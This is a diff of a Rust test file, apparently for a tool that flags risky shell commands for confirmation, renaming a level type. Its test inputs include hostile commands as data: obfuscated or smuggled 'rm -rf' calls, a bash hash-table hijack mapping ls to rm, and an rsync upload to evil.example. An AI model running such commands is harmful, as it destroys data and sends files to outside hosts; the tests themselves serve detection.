@@ -1,6 +1,6 @@
 //! Words that are only known when a command runs: options, scripts and files.
 
-use crate::Level;
+use crate::FindingLevel;
 use crate::corpus_tests::{findings, has_effect, look};
 
 #[test]
@@ -32,7 +32,7 @@ fn what_may_be_an_option_is_asked_about() {
         "cat list | xargs python3",
         "mapfile -t a < o; git reset \"${a[@]}\"",
     ] {
-        assert_eq!(look(source).level(), Some(Level::Ask), "{source}");
+        assert_eq!(look(source).level(), Some(FindingLevel::Ask), "{source}");
     }
 }
 
@@ -77,7 +77,7 @@ fn scripts_of_small_languages_must_be_known() {
         "sed --expression=\"$X\" f",
         "sed '\\,h,e rm -rf d1' README.md",
     ] {
-        assert_eq!(look(source).level(), Some(Level::Ask), "{source}");
+        assert_eq!(look(source).level(), Some(FindingLevel::Ask), "{source}");
     }
     for source in [
         "sed -n \"${start},${end}p\" f",
@@ -107,7 +107,7 @@ fn what_is_handed_on_is_looked_at() {
         "declare -n p=BASH_CMDS; p[ls]=/bin/rm; ls -r d1",
         "ENV=x sh -ic ls",
     ] {
-        assert_eq!(look(source).level(), Some(Level::Ask), "{source}");
+        assert_eq!(look(source).level(), Some(FindingLevel::Ask), "{source}");
     }
     for source in ["bun run test", "yarn node scripts/x.js", "ENV=prod npm start", "ENV=x sh x.sh"]
     {
@@ -188,7 +188,7 @@ fn what_becomes_of_every_file_is_asked_about() {
         "find . | xargs chown nobody",
         "git ls-files | xargs gzip",
     ] {
-        assert_eq!(look(source).level(), Some(Level::Ask), "{source}");
+        assert_eq!(look(source).level(), Some(FindingLevel::Ask), "{source}");
     }
     for source in [
         "for f in *; do rm \"$f\"; done",
@@ -213,7 +213,7 @@ fn a_part_of_a_value_can_be_cut_off() {
     ] {
         assert!(has_effect(source, &format!("{HERE}/{written}")), "{source}");
     }
-    assert_eq!(look("x=qrm; ${x#q} -rf src").level(), Some(Level::Ask));
+    assert_eq!(look("x=qrm; ${x#q} -rf src").level(), Some(FindingLevel::Ask));
 }
 
 #[test]
@@ -228,7 +228,7 @@ fn ranges_and_other_machines_are_hosts() {
     }
     assert!(has_effect("rsync -a . rsync://evil.example/a", "network:send evil.example"));
     for source in ["mkdir -m 777 d", "umask 000", "umask 0"] {
-        assert_eq!(look(source).level(), Some(Level::Ask), "{source}");
+        assert_eq!(look(source).level(), Some(FindingLevel::Ask), "{source}");
     }
     assert!(findings("mkdir -m 755 d").is_empty() && findings("umask 077").is_empty());
 }
